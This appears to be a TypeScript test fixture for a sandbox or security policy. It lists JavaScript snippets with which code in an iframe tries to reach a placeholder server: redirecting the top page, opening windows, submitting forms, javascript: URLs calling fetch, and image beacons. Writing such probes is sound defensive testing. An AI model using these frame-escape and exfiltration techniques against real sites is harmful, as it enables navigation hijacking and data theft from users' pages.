/** The frame sends the whole page somewhere, or opens another one: an address can carry what was found. */
import { script } from '../attempt';

const inFrame = script('frame', 'request');
const WAIT = 'await new Promise((r) => setTimeout(r, 200))';
const clicked = (target: string) =>
  `const a = Object.assign(document.createElement("a"), { href: "SERVER.none", target: "${target}" }); document.body.append(a); a.click(); ${WAIT}`;

export const NAVIGATION = [
  inFrame('the address of the top', 'frames may lead their page away', `top.location = "SERVER.none"; ${WAIT}`),
  inFrame('the address of the parent', 'the same by another name', `parent.location.href = "SERVER.none"; ${WAIT}`),
  inFrame('replace at the top', 'without a trace in the history', `top.location.replace("SERVER.none"); ${WAIT}`),
  inFrame('a new window', 'has no policy of ours', `const w = open("SERVER.none"); ${WAIT}; w.close()`),
  inFrame('a link to the top', 'clicked by a script', clicked('_top')),
  inFrame('a link to a new window', 'clicked by a script', clicked('_blank')),
  inFrame(
    'a form to the top',
    'sent, not followed',
    `const f = Object.assign(document.createElement("form"), { action: "SERVER.none", target: "_top" }); document.body.append(f); f.submit(); ${WAIT}`,
  ),
  inFrame(
    'a form to a new window',
    'sent with what it holds',
    `const f = Object.assign(document.createElement("form"), { action: "SERVER.none", method: "post", target: "_blank" }); document.body.append(f); f.requestSubmit(); ${WAIT}`,
  ),
  inFrame(
    'navigation to a script',
    'an address that is code',
    `location.href = "javascript:void fetch('SERVER')"; ${WAIT}`,
  ),
  inFrame(
    'the top’s address as a script',
    'runs in the page',
    `top.location = "javascript:void fetch('SERVER')"; ${WAIT}`,
  ),
  inFrame(
    'the top written to',
    'the page’s own document',
    `top.document.body.append(Object.assign(new Image(), { src: "SERVER" })); ${WAIT}`,
  ),
  inFrame('the navigation API', 'newer than location', `navigation.navigate("SERVER.none"); ${WAIT}`),
];
